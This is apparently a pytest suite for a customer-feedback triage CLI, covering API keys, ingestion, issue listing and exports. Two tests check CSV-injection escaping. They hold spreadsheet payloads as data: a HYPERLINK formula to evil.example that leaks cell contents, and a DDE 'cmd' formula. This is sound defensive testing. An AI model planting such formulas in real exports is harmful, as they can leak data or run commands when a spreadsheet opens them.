"""The ``triage`` command, on SQLite and PostgreSQL, through Typer's runner."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from sqlmodel import select
from typer.testing import CliRunner

from tests.conftest import auth
from tests.support.reliability import note
from triage import db, store
from triage.cli import app
from triage.csv_export import CsvDictWriter, CsvWriter, escape_cell

runner = CliRunner()


def invoke(*args: str):  # type: ignore[no-untyped-def]
    return runner.invoke(app, list(args), catch_exceptions=False)


def write_jsonl(path, rows) -> None:  # type: ignore[no-untyped-def]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")


def test_cli_keys_create_prints_key_last_and_stores_hash(settings, engine, client):  # type: ignore[no-untyped-def]
    result = invoke("keys", "create", "--scope", "read", "--name", "dashboard")
    assert result.exit_code == 0
    secret = result.stdout.strip().splitlines()[-1]
    assert secret.startswith("trg_")
    with db.session_scope(engine) as session:
        keys = store.list_api_keys(session)
    assert [(k.name, k.scope) for k in keys] == [("dashboard", "read")]
    assert secret not in keys[0].key_hash
    assert client.get("/v1/feedback", headers=auth(secret)).status_code == 200

    listed = invoke("keys", "list")
    assert "dashboard" in listed.stdout and secret not in listed.stdout
    assert invoke("keys", "revoke", str(keys[0].id)).exit_code == 0
    assert client.get("/v1/feedback", headers=auth(secret)).status_code == 401


def test_cli_keys_create_binds_an_ingest_key_to_sources(settings, engine, client):  # type: ignore[no-untyped-def]
    result = invoke("keys", "create", "--scope", "ingest", "--source", "zendesk",
                    "--source", "intercom")  # fmt: skip
    assert result.exit_code == 0 and "sources intercom, zendesk" in result.stderr
    secret = result.stdout.strip().splitlines()[-1]
    body = {"source": "appstore", "external_id": "1", "text": "Crashes on start."}
    assert client.post("/v1/feedback", json=body, headers=auth(secret)).status_code == 403
    body["source"] = "zendesk"
    assert client.post("/v1/feedback", json=body, headers=auth(secret)).status_code == 202
    listed = invoke("keys", "list").stdout  # a narrow terminal wraps the cell
    assert "intercom" in listed and "zendesk" in listed
    refused = invoke("keys", "create", "--scope", "read", "--source", "zendesk")
    assert refused.exit_code != 0 and "ingest" in refused.stderr


def test_cli_keys_create_rejects_unknown_scope(settings):  # type: ignore[no-untyped-def]
    result = runner.invoke(app, ["keys", "create", "--scope", "root"])
    assert result.exit_code != 0


def test_cli_ingest_feedback_jsonl_is_idempotent_and_reports_bad_lines(settings, engine, tmp_path):  # type: ignore[no-untyped-def]
    path = tmp_path / "tickets.jsonl"
    rows = [{"source": "zendesk", "external_id": str(i), "text": f"ticket {i}"} for i in range(5)]
    path.write_text(
        "".join(json.dumps(r) + "\n" for r in rows)
        + "{not json\n"
        + json.dumps({"source": "zendesk", "text": "no id"})
        + "\n\n",
        encoding="utf-8",
    )
    first = invoke("ingest", "feedback", str(path))
    assert first.exit_code == 1  # bad lines are reported and make the exit non-zero
    assert "stored 5" in first.stderr and "rejected 2" in first.stderr
    assert "line 6" in first.stderr and "line 7" in first.stderr and "external_id" in first.stderr
    second = invoke("ingest", "feedback", str(path))
    assert "stored 0" in second.stderr and "already there 5" in second.stderr
    with db.session_scope(engine) as session:
        assert store.count_feedback_by_status(session) == {"pending": 5}


def test_cli_ingest_feedback_keeps_good_lines_when_one_conflicts(settings, engine, tmp_path):  # type: ignore[no-untyped-def]
    path = tmp_path / "a.jsonl"
    write_jsonl(path, [{"source": "s", "external_id": "1", "text": "first"}])
    invoke("ingest", "feedback", str(path))
    write_jsonl(
        path,
        [
            {"source": "s", "external_id": "2", "text": "second"},
            {"source": "s", "external_id": "1", "text": "first, edited"},
            {"source": "s", "external_id": "3", "text": "third"},
        ],
    )
    result = invoke("ingest", "feedback", str(path))
    assert result.exit_code == 1 and "line 2" in result.stderr
    with db.session_scope(engine) as session:
        rows, total = store.list_feedback(session)
    assert total == 3 and [r.text for r in rows] == ["first", "second", "third"]


def test_cli_ingest_feedback_csv_maps_columns(settings, engine, tmp_path):  # type: ignore[no-untyped-def]
    path = tmp_path / "survey.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["answer_id", "answer", "customer_id", "nps"])
        writer.writerow(["a1", "The summary missed the action items.", "c-9", "3"])
        writer.writerow(["a2", "Export to PDF cuts off the table.", "", "6"])
    result = invoke(
        "ingest", "feedback", str(path),
        "--text-column", "answer", "--id-column", "answer_id", "--source", "survey",
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr
    with db.session_scope(engine) as session:
        rows, _ = store.list_feedback(session)
    assert [(r.source, r.external_id, r.customer_id) for r in rows] == [
        ("survey", "a1", "c-9"),
        ("survey", "a2", None),
    ]
    assert rows[0].meta == {"nps": "3"}


def test_cli_ingest_csv_names_missing_column(settings, tmp_path):  # type: ignore[no-untyped-def]
    path = tmp_path / "x.csv"
    path.write_text("id,body\n1,hello\n", encoding="utf-8")
    result = invoke("ingest", "feedback", str(path), "--text-column", "text")
    assert result.exit_code == 1 and "no column 'text'" in result.stderr


def test_cli_ingest_outputs(settings, engine, tmp_path):  # type: ignore[no-untyped-def]
    path = tmp_path / "outputs.jsonl"
    write_jsonl(
        path,
        [
            {"output_id": f"o{i}", "model": "summarizer", "model_version": "2.3.0",
             "created_at": "2026-11-20T10:00:00Z", "metadata": {"eval_score": 0.7}}
            for i in range(3)
        ],
    )  # fmt: skip
    result = invoke("ingest", "outputs", str(path))
    assert result.exit_code == 0 and "stored 3" in result.stderr
    assert "already there 3" in invoke("ingest", "outputs", str(path)).stderr


def test_cli_issues_and_export_before_processing(settings, tmp_path):  # type: ignore[no-untyped-def]
    path = tmp_path / "t.jsonl"
    write_jsonl(path, [{"source": "s", "external_id": "1", "text": "hello there"}])
    invoke("ingest", "feedback", str(path))
    assert json.loads(invoke("issues", "--format", "json").stdout) == []
    lines = invoke("export", "feedback").stdout.strip().splitlines()
    row = json.loads(lines[0])
    assert row["external_id"] == "1" and row["status"] == "pending" and row["issue_id"] is None
    assert row["issue_ids"] == [] and row["category"] is None
    assert row["issue_category"] is None  # the ticket's own category and its issue's, apart
    assert row["category_uncertain"] is False
    exported = invoke("export", "feedback", "--format", "csv").stdout.splitlines()
    assert exported[0].startswith("id,external_id,source,status,issue_id,issue_ids,category")


def test_escape_cell_quotes_what_a_spreadsheet_would_run():
    """OWASP, CSV Injection: a cell starting with = + - @ tab or CR gets a ' in front."""
    for formula in ("=HYPERLINK(\"http://evil.example\",\"x\")", "+1+cmd|' /C calc'!A0", "-2+3",
                    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "-"):  # fmt: skip
        assert escape_cell(formula) == "'" + formula
    for kept in ("plain text", " =1+1", "a=b", "'=already quoted", "", "1-2", "é=1"):
        assert escape_cell(kept) == kept
    for value in (None, 0, -3, -0.5, 2.5, True):  # numbers stay numbers
        assert escape_cell(value) is value
    buffer = io.StringIO()
    CsvWriter(buffer).writerow(["=1+1", -1, 'say "hi", then\n=2', None])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["'=1+1", "-1", 'say "hi", then\n=2', ""]
    ]
    buffer = io.StringIO()
    writer = CsvDictWriter(buffer, fieldnames=["a", "@b"])
    writer.writeheader()
    writer.writerow({"a": "+x", "@b": "ok"})
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["a", "'@b"], ["'+x", "ok"]]


def test_cli_csv_exports_escape_formulas(settings, engine, record_property):  # type: ignore[no-untyped-def]
    """Issue 14: `triage export feedback -f csv` and `triage issues -f csv` wrote customer
    text such as =HYPERLINK(...) as it was, and a spreadsheet ran it."""
    note(record_property, fault="cells starting with =, +, -, @ or a tab in CSV exports "
         "(`triage issues`, `triage issue`, `triage export feedback`)", tried=3,
         checked="each such cell starts with a single quote (OWASP), no bare formula")  # fmt: skip
    from tests.api.test_api_issues import seed
    from triage.models import Feedback, Issue

    ids, _ = seed(engine, sizes=(1,))
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with db.session_scope(engine) as session:
        issue = session.get(Issue, ids[0])
        issue.title, issue.keywords = formula, ["@cmd", "export"]
        feedback = session.exec(select(Feedback)).one()
        feedback.redacted_text, feedback.external_id = "+1+cmd|' /C calc'!A0", "-42"
        feedback.customer_id = "\t=1+1"
    issues = list(csv.DictReader(invoke("issues", "--format", "csv").stdout.splitlines()))
    assert issues[0]["title"] == "'" + formula and issues[0]["keywords"] == "'@cmd; export"
    one = list(csv.DictReader(invoke("issue", str(ids[0]), "--format", "csv").stdout.splitlines()))
    assert one[0]["title"] == "'" + formula
    exported = invoke("export", "feedback", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert rows[0]["text"] == "'+1+cmd|' /C calc'!A0" and rows[0]["external_id"] == "'-42"
    assert rows[0]["customer_id"].startswith("'")  # redacted or not, never a bare formula
    for row in (*issues, *one, *rows):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_cli_refuses_outdated_schema_and_says_how_to_fix(tmp_path, monkeypatch):  # type: ignore[no-untyped-def]
    url = f"sqlite:///{tmp_path / 'old.db'}"
    (tmp_path / "old.db").touch()  # there, but empty: a missing file is another message
    monkeypatch.setenv("TRIAGE_DATABASE_URL", url)
    from triage.config import get_settings

    get_settings.cache_clear()
    result = invoke("issues")
    assert result.exit_code == 1
    assert "triage db upgrade" in result.stderr and "no schema" in result.stderr
    assert "database: empty" in invoke("db", "current").stdout
    assert invoke("db", "upgrade").exit_code == 0
    assert invoke("issues").exit_code == 0
    get_settings.cache_clear()


def test_api_refuses_to_start_on_outdated_schema(tmp_path):  # type: ignore[no-untyped-def]
    from fastapi.testclient import TestClient

    from api.main import create_app
    from triage.config import Settings
    from triage.errors import SchemaOutdatedError

    settings = Settings(database_url=f"sqlite:///{tmp_path / 'fresh.db'}")
    with (
        pytest.raises(SchemaOutdatedError, match="triage db upgrade"),
        TestClient(create_app(settings)),
    ):
        pass
    # The embedded default may upgrade itself when allowed (the demo does).
    allowed = settings.model_copy(update={"auto_upgrade_sqlite": True})
    with TestClient(create_app(allowed)) as client:
        assert client.get("/readyz").status_code == 200


def test_cli_help_lists_every_command():  # type: ignore[no-untyped-def]
    text = invoke("--help").stdout
    for command in ("db", "keys", "ingest", "run", "worker", "serve", "issues", "export", "demo"):
        assert command in text


def test_cli_train_learns_from_people_s_corrections(settings, engine, tmp_path):  # type: ignore[no-untyped-def]
    from tests.api.test_api_issues import seed
    from triage import corrections
    from triage.categorize import EXAMPLES_FILE, CategoryClassifier, LabelledExamples

    ids, _ = seed(engine, sizes=(3,))
    with db.session_scope(engine) as session:
        # A person recategorises the issue and confirms that all its statements are "data".
        corrections.update(session, issue_id=ids[0], changes={"category": "data"},
                           confirm_units="all", api_key_id=None, actor="test")  # fmt: skip
    out = tmp_path / "classifier"
    result = invoke("train", "--out", str(out))
    assert result.exit_code == 0, result.stderr
    assert "3 corrected units" in result.stderr and "held-out macro-F1" in result.stderr
    classifier = CategoryClassifier.load(out)
    assert classifier.card["corrections"] == 3
    assert classifier.card["training_data"].endswith("and 3 corrected units")
    # By default: the five products' labelled set and the two chat assistants'.
    assert classifier.card["training_data"].startswith(
        "fixtures/labelled.jsonl + chat/labelled.jsonl split=train"
    )
    # The fixtures hold several products, so the combiner is learned beside the classifier.
    assert classifier.card["heldout_metrics"]["evaluated_as"].startswith("the learned combiner")
    assert (out / "combiner.npz").exists() and classifier.card["combiner"]["groups_kept"]
    # And the weight of each ticket's nearest tickets, with what each weight scored.
    assert "nearest tickets: weight" in result.stderr
    # And the confidence under which its decisions say they are uncertain (``abstain``).
    assert "uncertain below" in result.stderr
    card = json.loads((out / "combiner.json").read_text())
    assert 0 < card["uncertain"]["below"] <= 1
    # The examples signal reads the corrections too, beside the labelled training rows.
    examples = LabelledExamples.load(out / EXAMPLES_FILE)
    assert len(examples) == classifier.card["training_examples"] + 3
    assert set(classifier.classes) == {"ui", "data", "model", "expectation"}
    assert not list(out.glob("*.pkl"))


def test_cli_run_says_a_category_below_the_learned_confidence_is_uncertain(
    settings, engine, tmp_path, monkeypatch
):  # type: ignore[no-untyped-def]
    """`triage train` learns where its decisions turn more often wrong than right; a ticket
    decided below that says so first, and the export flags it (``categorize.abstain``)."""
    from triage.categorize.combiner import LearnedCombiner
    from triage.config import get_settings
    from triage.models import Feedback

    out = tmp_path / "classifier"
    assert invoke("train", "--out", str(out)).exit_code == 0
    monkeypatch.setenv("TRIAGE_CATEGORIZE_CLASSIFIER_DIR", str(out))
    get_settings.cache_clear()
    path = tmp_path / "t.jsonl"
    texts = ["The export button does nothing on Safari.", "The totals use last month's prices."]
    write_jsonl(path, [{"source": "s", "external_id": str(i), "text": t}
                       for i, t in enumerate(texts)])  # fmt: skip
    invoke("ingest", "feedback", str(path))

    def exported(below: float) -> list[dict]:  # type: ignore[type-arg]
        combiner = LearnedCombiner.load(out)
        # Just over 1: every decision is below it (a sure one has confidence 1.0); 0: none is.
        combiner.uncertain_below = below
        combiner.save(out)
        assert invoke("run").exit_code == 0
        return [json.loads(line) for line in invoke("export", "feedback").stdout.splitlines()]

    rows = exported(1.0 + 1e-9)
    assert [r["category_uncertain"] for r in rows] == [True, True]
    with db.session_scope(engine) as session:
        for feedback in session.exec(select(Feedback)).all():
            first = feedback.category_evidence[0]
            assert first["signal"] == "uncertain" and first["category"] == feedback.category
            assert first["reason"].startswith(f"uncertain: {feedback.category} at ")
    # The threshold is part of what a decision is made from: the next run decides again.
    assert [r["category_uncertain"] for r in exported(0.0)] == [False, False]


def test_cli_issues_formats_carry_breakdown_and_versions(settings, engine):  # type: ignore[no-untyped-def]
    from tests.api.test_api_issues import seed
    from triage.models import Issue

    ids, _ = seed(engine, sizes=(2, 1))
    with db.session_scope(engine) as session:
        issue = session.get(Issue, ids[0])
        issue.priority_breakdown = {"reach": 0.2, "volume": 0.1}
        issue.model_versions = [{"model": "summarizer", "version": "summarizer 2.3.0"}]
        issue.evidence = [{"reason": "cue words: button", "signal": "cues"}]
        session.add(issue)
    rows = json.loads(invoke("issues", "--format", "json", "--top", "1").stdout)
    assert rows[0]["id"] == ids[0] and rows[0]["priority_breakdown"]["reach"] == 0.2
    assert rows[0]["evidence"] == ["cue words: button"]
    lines = list(csv.DictReader(invoke("issues", "--format", "csv").stdout.splitlines()))
    assert [int(r["id"]) for r in lines] == ids
    assert "summarizer 2.3.0" in lines[0]["model_versions"]
    assert json.loads(lines[0]["priority_breakdown"]) == {"reach": 0.2, "volume": 0.1}
    assert "Issue" in invoke("issues").stdout
    # Evidence has a column only where there is room for it.
    wide = runner.invoke(app, ["issues"], env={"COLUMNS": "160"}, catch_exceptions=False)
    assert "button" in wide.stdout
    assert json.loads(invoke("issues", "--format", "json", "--category", "data").stdout) == []


def _set(engine, issue_id, **fields):  # type: ignore[no-untyped-def]
    from triage.models import Issue

    with db.session_scope(engine) as session:
        issue = session.get(Issue, issue_id)
        for name, value in fields.items():
            setattr(issue, name, value)
        session.add(issue)


def test_cli_issues_hides_resolved_and_ignored_unless_asked(settings, engine):  # type: ignore[no-untyped-def]
    from tests.api.test_api_issues import seed

    ids, _ = seed(engine, sizes=(1, 1, 1, 1))
    for issue_id, status in zip(ids, ("open", "acknowledged", "resolved", "ignored"), strict=True):
        _set(engine, issue_id, status=status)

    def shown(*args: str) -> list[tuple[int, str]]:
        rows = json.loads(invoke("issues", "--format", "json", *args).stdout)
        return [(r["id"], r["status"]) for r in rows]

    assert shown() == [(ids[0], "open"), (ids[1], "acknowledged")]
    assert shown("--status", "resolved,ignored") == [(ids[2], "resolved"), (ids[3], "ignored")]
    assert [i for i, _ in shown("--status", "all")] == ids
    table = invoke("issues", "--status", "all").stdout
    assert "status" in table and "acknowledged" in table and "ignored" in table
    wrong = runner.invoke(app, ["issues", "--status", "open,done"])
    assert wrong.exit_code == 2 and "done" in wrong.stderr


def test_cli_issues_table_fits_80_columns_one_line_a_row(settings, engine):  # type: ignore[no-untyped-def]
    from tests.api.test_api_issues import seed

    ids, _ = seed(engine, sizes=(2, 1))
    long_title = "The export button does nothing when the report has more than ten pages " * 2
    _set(engine, ids[0], title=long_title, category="expectation", category_confidence=0.85,
         trend={"week": "2026-W48", "this_week": 12, "spiking": True})  # fmt: skip
    result = runner.invoke(app, ["issues"], env={"COLUMNS": "80"}, catch_exceptions=False)
    lines = result.stdout.splitlines()
    assert max(len(line) for line in lines) <= 80
    rows = [line for line in lines if line.strip().split(" ")[0] in {str(i) for i in ids}]
    assert len(rows) == 2  # one line each: nothing wrapped onto a second line
    assert "…" in rows[0] and "expectation" in rows[0] and "acknowledged" not in rows[0]


def test_cli_issue_prints_one_issue_as_the_page_does(settings, engine):  # type: ignore[no-untyped-def]
    from tests.api.test_api_issues import seed

    ids, _ = seed(engine, sizes=(3,))
    _set(
        engine, ids[0],
        category_confidence=0.72, category_runner_up="data",
        evidence=[{"reason": "cue words: button, click", "signal": "cues", "category": "ui",
                   "contribution": 0.31}],
        priority_breakdown={"reach": 0.2, "volume": 0.1},
        trend={"week": "2026-W48", "this_week": 4, "trailing_mean": 1.5, "spiking": True},
        quotes=["The button does nothing."],
        model_versions=[{"model": "summarizer", "version": "summarizer 2.3.0"}],
        external_url="https://github.com/acme/app/issues/7",
    )  # fmt: skip
    result = invoke("issue", str(ids[0]))
    assert result.exit_code == 0, result.stderr
    text = result.stdout
    for expected in (
        "Issue 0", "ui (72% confident; runner-up data)", "cue words: button, click",
        "reach: 0.200", "this week (2026-W48) 4", "spiking", "The button does nothing.",
        "summarizer 2.3.0", "in 3 member tickets", "https://github.com/acme/app/issues/7",
    ):  # fmt: skip
        assert expected in text, expected
    row = json.loads(invoke("issue", str(ids[0]), "--format", "json").stdout)
    assert row["member_tickets"] == 3 and row["priority_breakdown"]["reach"] == 0.2
    missing = invoke("issue", "999")
    assert missing.exit_code == 1 and "No issue with id 999" in missing.stderr


def test_cli_help_shows_no_bool_metavar():  # type: ignore[no-untyped-def]
    for command in (["run", "--help"], ["digest", "--help"], ["serve", "--help"]):
        text = runner.invoke(app, command, env={"COLUMNS": "120"}).stdout
        assert "--" in text and "<bool>" not in text and "BOOLEAN" not in text, command


@pytest.mark.parametrize("scheme", ["postgres", "postgresql"])
def test_cli_postgres_url_without_driver_says_how_to_write_it(scheme, monkeypatch):  # type: ignore[no-untyped-def]
    from triage.config import get_settings

    monkeypatch.setenv("TRIAGE_DATABASE_URL", f"{scheme}://u:secret@db:5432/triage")
    get_settings.cache_clear()
    result = invoke("issues")
    get_settings.cache_clear()
    assert result.exit_code == 1
    assert "postgresql+psycopg://" in result.stderr and "secret" not in result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize(
    "command",
    [["issues"], ["issue", "1"], ["export", "feedback"], ["digest"], ["keys", "list"]],
)
def test_cli_read_commands_on_missing_sqlite_say_so(command, tmp_path, monkeypatch):  # type: ignore[no-untyped-def]
    from triage.config import get_settings

    path = tmp_path / "nothing" / "triage.db"
    monkeypatch.setenv("TRIAGE_DATABASE_URL", f"sqlite:///{path}")
    get_settings.cache_clear()
    result = invoke(*command)
    get_settings.cache_clear()
    assert result.exit_code == 1
    assert "no database at" in result.stderr and str(path) in result.stderr
    assert not path.exists()


def test_cli_write_commands_create_a_missing_sqlite_once(tmp_path, monkeypatch):  # type: ignore[no-untyped-def]
    from triage.config import get_settings

    path = tmp_path / "new" / "triage.db"
    monkeypatch.setenv("TRIAGE_DATABASE_URL", f"sqlite:///{path}")
    get_settings.cache_clear()
    try:
        created = invoke("keys", "create", "--scope", "read")
        assert created.exit_code == 0, created.stderr
        assert created.stderr.count("created a new database") == 1 and path.exists()
        feedback = tmp_path / "t.jsonl"
        write_jsonl(feedback, [{"source": "s", "external_id": "1", "text": "hello"}])
        again = invoke("ingest", "feedback", str(feedback))
        assert again.exit_code == 0 and "created a new database" not in again.stderr
        assert invoke("issues").exit_code == 0
    finally:
        get_settings.cache_clear()


def test_cli_run_shows_progress_for_processing_and_every_refresh_phase(settings, engine, tmp_path):  # type: ignore[no-untyped-def]
    path = tmp_path / "tickets.jsonl"
    write_jsonl(
        path,
        [{"source": "t", "external_id": str(i), "text": f"The CSV export fails, try {i}."}
         for i in range(12)],
    )  # fmt: skip
    assert invoke("ingest", "feedback", str(path)).exit_code == 0
    # The real command, with a progress display although its output is not a terminal.
    triage = str(Path(sys.executable).with_name("triage"))
    done = subprocess.run(
        [triage, "run"], env={**os.environ, "TRIAGE_PROGRESS": "1", "COLUMNS": "120"},
        capture_output=True, text=True, timeout=600,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    # Off a terminal, Rich draws the display once, as it ends (the CLI writes to stderr).
    assert "processing feedback" in done.stderr and "12/12" in done.stderr
    from triage.pipeline import PHASES

    phases = f"{len(PHASES)}/{len(PHASES)}"
    assert "refreshing issues: done" in done.stderr and phases in done.stderr
    assert "processed 12, failed 0" in done.stderr
